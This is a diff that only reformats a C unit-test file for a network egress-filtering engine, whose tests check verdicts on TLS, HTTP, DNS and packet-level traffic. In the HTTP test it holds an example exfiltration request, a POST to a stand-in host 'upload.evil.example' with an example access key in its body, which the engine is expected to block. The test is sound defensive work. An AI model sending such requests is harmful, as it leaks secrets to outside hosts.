@@ -96,14 +96,14 @@ static void on_resolve(void *arg, const char *name)
 	snprintf(h->resolves[h->nres++], 256, "%s", name);
 }
 
-static struct addr A(const char *s)
-{
+static struct addr A(const char *s) {
 	struct addr a;
 	assert_true(addr_parse(s, &a));
 	return a;
 }
 
-static const uint16_t P443[] = {443}, P80[] = {80, 443}, P22[] = {22}, P123[] = {123};
+static const uint16_t P443[] = {443},
+                      P80[] = {80, 443}, P22[] = {22}, P123[] = {123};
 
 /*
  * Policy: line 1 api.example.com, 2 other.example.com, 3 www.example.com:80,443,
@@ -113,16 +113,31 @@ static const uint16_t P443[] = {443}, P80[] = {80, 443}, P22[] = {22}, P123[] = 
 static struct policy *make_policy(void)
 {
 	struct policy_builder *b = policy_builder_new();
-	assert_int_equal(policy_builder_add_name(b, "api.example.com", false, P443, 1, "t.list", 1, "api.example.com"), 0);
-	assert_int_equal(policy_builder_add_name(b, "other.example.com", false, P443, 1, "t.list", 2, "other.example.com"), 0);
-	assert_int_equal(policy_builder_add_name(b, "www.example.com", false, P80, 2, "t.list", 3, "www.example.com:80,443"), 0);
-	assert_int_equal(policy_builder_add_name(b, "ssh.example.com", false, P22, 1, "t.list", 4, "ssh.example.com:22"), 0);
+	assert_int_equal(policy_builder_add_name(b, "api.example.com", false, P443, 1, "t.list", 1,
+	                                         "api.example.com"),
+	                 0);
+	assert_int_equal(policy_builder_add_name(b, "other.example.com", false, P443, 1, "t.list",
+	                                         2, "other.example.com"),
+	                 0);
+	assert_int_equal(policy_builder_add_name(b, "www.example.com", false, P80, 2, "t.list", 3,
+	                                         "www.example.com:80,443"),
+	                 0);
+	assert_int_equal(policy_builder_add_name(b, "ssh.example.com", false, P22, 1, "t.list", 4,
+	                                         "ssh.example.com:22"),
+	                 0);
 	struct addr n = A("203.0.113.0"), n6 = A("2001:db8:1::");
-	assert_int_equal(policy_builder_add_range(b, &n, 24, P443, 1, "t.list", 5, "203.0.113.0/24:443"), 0);
-	assert_int_equal(policy_builder_add_range(b, &n6, 48, P443, 1, "t.list", 6, "[2001:db8:1::/48]:443"), 0);
-	assert_int_equal(policy_builder_add_name(b, "ntp.example.com", false, P123, 1, "t.list", 7, "ntp.example.com:123"), 0);
-	assert_int_equal(policy_builder_add_name(b, "cdn.example.com", true, P443, 1, "t.list", 8, "*.cdn.example.com"), 0);
-	assert_int_equal(policy_builder_add_name(b, "github.com", false, P443, 1, "t.list", 9, "github.com"), 0);
+	assert_int_equal(
+	    policy_builder_add_range(b, &n, 24, P443, 1, "t.list", 5, "203.0.113.0/24:443"), 0);
+	assert_int_equal(
+	    policy_builder_add_range(b, &n6, 48, P443, 1, "t.list", 6, "[2001:db8:1::/48]:443"), 0);
+	assert_int_equal(policy_builder_add_name(b, "ntp.example.com", false, P123, 1, "t.list", 7,
+	                                         "ntp.example.com:123"),
+	                 0);
+	assert_int_equal(policy_builder_add_name(b, "cdn.example.com", true, P443, 1, "t.list", 8,
+	                                         "*.cdn.example.com"),
+	                 0);
+	assert_int_equal(
+	    policy_builder_add_name(b, "github.com", false, P443, 1, "t.list", 9, "github.com"), 0);
 	struct policy *p = policy_builder_finish(b);
 	assert_non_null(p);
 	return p;
@@ -150,7 +165,8 @@ static void teardown_h(struct h *h)
 	engine_free(h->e);
 	for (uint64_t i = 0; i < h->next_handle; i++) {
 		if (h->vcount[i] != 1)
-			fail_msg("handle %llu got %u verdicts", (unsigned long long)i, h->vcount[i]);
+			fail_msg("handle %llu got %u verdicts", (unsigned long long)i,
+			         h->vcount[i]);
 	}
 	bind_free(h->b);
 	policy_free(h->p);
@@ -171,8 +187,7 @@ static void put32(uint8_t *p, uint32_t v)
 }
 
 /* IP header for proto with l4len bytes following; returns header length. */
-static size_t build_ip(uint8_t *out, const char *src, const char *dst, uint8_t proto,
-		       size_t l4len)
+static size_t build_ip(uint8_t *out, const char *src, const char *dst, uint8_t proto, size_t l4len)
 {
 	struct addr s = A(src), d = A(dst);
 	assert_int_equal(s.family, d.family);
@@ -198,7 +213,7 @@ static size_t build_ip(uint8_t *out, const char *src, const char *dst, uint8_t p
 }
 
 static size_t build_tcp(uint8_t *out, const char *src, const char *dst, uint16_t sport,
-			uint16_t dport, uint32_t seq, uint8_t flags, const void *pl, size_t n)
+                        uint16_t dport, uint32_t seq, uint8_t flags, const void *pl, size_t n)
 {
 	size_t ip = build_ip(out, src, dst, 6, 20 + n);
 	uint8_t *t = out + ip;
@@ -216,7 +231,7 @@ static size_t build_tcp(uint8_t *out, const char *src, const char *dst, uint16_t
 }
 
 static size_t build_udp(uint8_t *out, const char *src, const char *dst, uint16_t sport,
-			uint16_t dport, const void *pl, size_t n)
+                        uint16_t dport, const void *pl, size_t n)
 {
 	size_t ip = build_ip(out, src, dst, 17, 8 + n);
 	uint8_t *u = out + ip;
@@ -243,7 +258,7 @@ static uint64_t feed(struct h *h, const uint8_t *pkt, size_t len, uint64_t now)
 #define PSH 0x08
 
 static uint64_t syn(struct h *h, const char *src, const char *dst, uint16_t sport, uint16_t dport,
-		    uint64_t now)
+                    uint64_t now)
 {
 	uint8_t pkt[128];
 	size_t n = build_tcp(pkt, src, dst, sport, dport, ISN, SYN, NULL, 0);
@@ -252,12 +267,12 @@ static uint64_t syn(struct h *h, const char *src, const char *dst, uint16_t spor
 
 /* A segment at stream offset off (ISN+1 relative). */
 static uint64_t seg(struct h *h, const char *src, const char *dst, uint16_t sport, uint16_t dport,
-		    size_t off, const void *data, size_t n, uint64_t now)
+                    size_t off, const void *data, size_t n, uint64_t now)
 {
 	uint8_t pkt[4096];
 	assert_true(n < 4000);
-	size_t len = build_tcp(pkt, src, dst, sport, dport, ISN + 1 + (uint32_t)off, ACK | PSH,
-			       data, n);
+	size_t len =
+	    build_tcp(pkt, src, dst, sport, dport, ISN + 1 + (uint32_t)off, ACK | PSH, data, n);
 	return feed(h, pkt, len, now);
 }
 
@@ -410,7 +425,8 @@ static void test_tls_split_out_of_order(void **state)
 	int order[4] = {2, 0, 3, 1};
 	for (int i = 0; i < 3; i++) {
 		int k = order[i];
-		ids[k] = seg(h, cl, sv, 40000, 443, offs[k], hello + offs[k], lens[k], 3 + (uint64_t)i);
+		ids[k] =
+		    seg(h, cl, sv, 40000, 443, offs[k], hello + offs[k], lens[k], 3 + (uint64_t)i);
 		assert_int_equal(h->vcount[ids[k]], 0); /* held */
 	}
 	struct engine_stats st;
@@ -461,7 +477,7 @@ static void test_tls_ipv6_and_wildcard(void **state)
 }
 
 static void hello_case(const char *sni, bool ech, const char *bound_name, enum reason want,
-		       uint32_t want_bits, enum severity sev)
+                       uint32_t want_bits, enum severity sev)
 {
 	struct h *h = setup_with(NULL);
 	const char *cl = "192.0.2.1", *sv = "198.51.100.10";
@@ -494,19 +510,19 @@ static void test_tls_denials(void **state)
 	(void)state;
 	/* SNI not in the policy */
 	hello_case("evil.example.net", false, "api.example.com", REASON_NAME_NOT_ALLOWED,
-		   IND_SPLIT_HELLO, SEVERITY_MEDIUM);
+	           IND_SPLIT_HELLO, SEVERITY_MEDIUM);
 	/* allowed name, but DNS never gave this address for it */
 	hello_case("other.example.com", false, "api.example.com", REASON_SNI_IP_MISMATCH,
-		   IND_SNI_SPOOF | IND_SPLIT_HELLO, SEVERITY_HIGH);
+	           IND_SNI_SPOOF | IND_SPLIT_HELLO, SEVERITY_HIGH);
 	/* allowed name on another port only */
 	hello_case("ssh.example.com", false, "api.example.com", REASON_PORT_NOT_ALLOWED, 0,
-		   SEVERITY_MEDIUM);
+	           SEVERITY_MEDIUM);
 	hello_case(NULL, false, "api.example.com", REASON_NO_NAME, 0, SEVERITY_MEDIUM);
 	hello_case("api.example.com", true, "api.example.com", REASON_ECH, IND_ECH,
-		   SEVERITY_MEDIUM);
+	           SEVERITY_MEDIUM);
 	/* look-alike of an allowed registrable domain */
-	hello_case("githuh.com", false, "api.example.com", REASON_NAME_NOT_ALLOWED,
-		   IND_TYPOSQUAT, SEVERITY_HIGH);
+	hello_case("githuh.com", false, "api.example.com", REASON_NAME_NOT_ALLOWED, IND_TYPOSQUAT,
+	           SEVERITY_HIGH);
 }
 
 static void test_typosquat_imitates(void **state)
@@ -587,7 +603,7 @@ static void test_http(void **state)
 	/* exfiltration: POST to a look-alike with a key in the body */
 	syn(h, cl, sv, 40001, 80, 4);
 	const char *post = "POST /u HTTP/1.1\r\nHost: upload.evil.example\r\nContent-Length: 24\r\n"
-			   "\r\nkey=AKIAIOSFODNN7EXAMPLE";
+	                   "\r\nkey=AKIAIOSFODNN7EXAMPLE";
 	uint64_t c = seg(h, cl, sv, 40001, 80, 0, post, strlen(post), 5);
 	assert_int_equal(h->vlast[c], VERDICT_DENY);
 	const struct evrec *ev = last_ev(h);
@@ -599,7 +615,8 @@ static void test_http(void **state)
 
 	/* CONNECT is a proxy request */
 	syn(h, cl, sv, 40002, 80, 6);
-	const char *conn = "CONNECT www.example.com:443 HTTP/1.1\r\nHost: www.example.com:443\r\n\r\n";
+	const char *conn =
+	    "CONNECT www.example.com:443 HTTP/1.1\r\nHost: www.example.com:443\r\n\r\n";
 	uint64_t d = seg(h, cl, sv, 40002, 80, 0, conn, strlen(conn), 7);
 	assert_int_equal(h->vlast[d], VERDICT_DENY);
 	assert_int_equal(last_ev(h)->reason, REASON_PROTOCOL_NOT_ALLOWED);
@@ -672,7 +689,8 @@ static void test_packet_level(void **state)
 	/* a segment before the stream start */
 	syn(h, "192.0.2.1", "198.51.100.10", 40001, 443, 6);
 	uint8_t raw[128];
-	size_t rn = build_tcp(raw, "192.0.2.1", "198.51.100.10", 40001, 443, ISN - 5, ACK, "abc", 3);
+	size_t rn =
+	    build_tcp(raw, "192.0.2.1", "198.51.100.10", 40001, 443, ISN - 5, ACK, "abc", 3);
 	uint64_t f = feed(h, raw, rn, 7);
 	assert_int_equal(h->vlast[f], VERDICT_DENY);
 	assert_int_equal(last_ev(h)->reason, REASON_INCOMPLETE);
@@ -951,7 +969,7 @@ static void test_table_full(void **state)
 /* ---- DNS ---- */
 
 static size_t build_query(uint8_t *out, uint16_t id, const char *name, uint16_t qtype,
-			  uint16_t qdcount)
+                          uint16_t qdcount)
 {
 	memset(out, 0, 12);
 	put16(out, id);
@@ -1085,28 +1103,28 @@ static void test_set_policy(void **state)
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
-		cmocka_unit_test(test_syn_range_and_repeats),
-		cmocka_unit_test(test_syn_ip_not_allowed),
-		cmocka_unit_test(test_tls_split_out_of_order),
-		cmocka_unit_test(test_tls_ipv6_and_wildcard),
-		cmocka_unit_test(test_tls_denials),
-		cmocka_unit_test(test_typosquat_imitates),
-		cmocka_unit_test(test_overlap_conflict),
-		cmocka_unit_test(test_tls_malformed),
-		cmocka_unit_test(test_http),
-		cmocka_unit_test(test_other_protocols),
-		cmocka_unit_test(test_packet_level),
-		cmocka_unit_test(test_udp),
-		cmocka_unit_test(test_quic_inspect_garbage),
-		cmocka_unit_test(test_hold_bounds),
-		cmocka_unit_test(test_one_byte_segments_allowed),
-		cmocka_unit_test(test_tfo),
-		cmocka_unit_test(test_verify_mode),
-		cmocka_unit_test(test_audit),
-		cmocka_unit_test(test_aggregation_and_beacon),
-		cmocka_unit_test(test_table_full),
-		cmocka_unit_test(test_dns_guard),
-		cmocka_unit_test(test_set_policy),
+	    cmocka_unit_test(test_syn_range_and_repeats),
+	    cmocka_unit_test(test_syn_ip_not_allowed),
+	    cmocka_unit_test(test_tls_split_out_of_order),
+	    cmocka_unit_test(test_tls_ipv6_and_wildcard),
+	    cmocka_unit_test(test_tls_denials),
+	    cmocka_unit_test(test_typosquat_imitates),
+	    cmocka_unit_test(test_overlap_conflict),
+	    cmocka_unit_test(test_tls_malformed),
+	    cmocka_unit_test(test_http),
+	    cmocka_unit_test(test_other_protocols),
+	    cmocka_unit_test(test_packet_level),
+	    cmocka_unit_test(test_udp),
+	    cmocka_unit_test(test_quic_inspect_garbage),
+	    cmocka_unit_test(test_hold_bounds),
+	    cmocka_unit_test(test_one_byte_segments_allowed),
+	    cmocka_unit_test(test_tfo),
+	    cmocka_unit_test(test_verify_mode),
+	    cmocka_unit_test(test_audit),
+	    cmocka_unit_test(test_aggregation_and_beacon),
+	    cmocka_unit_test(test_table_full),
+	    cmocka_unit_test(test_dns_guard),
+	    cmocka_unit_test(test_set_policy),
 	};
 	return cmocka_run_group_tests_name("engine", tests, NULL, NULL);
 }
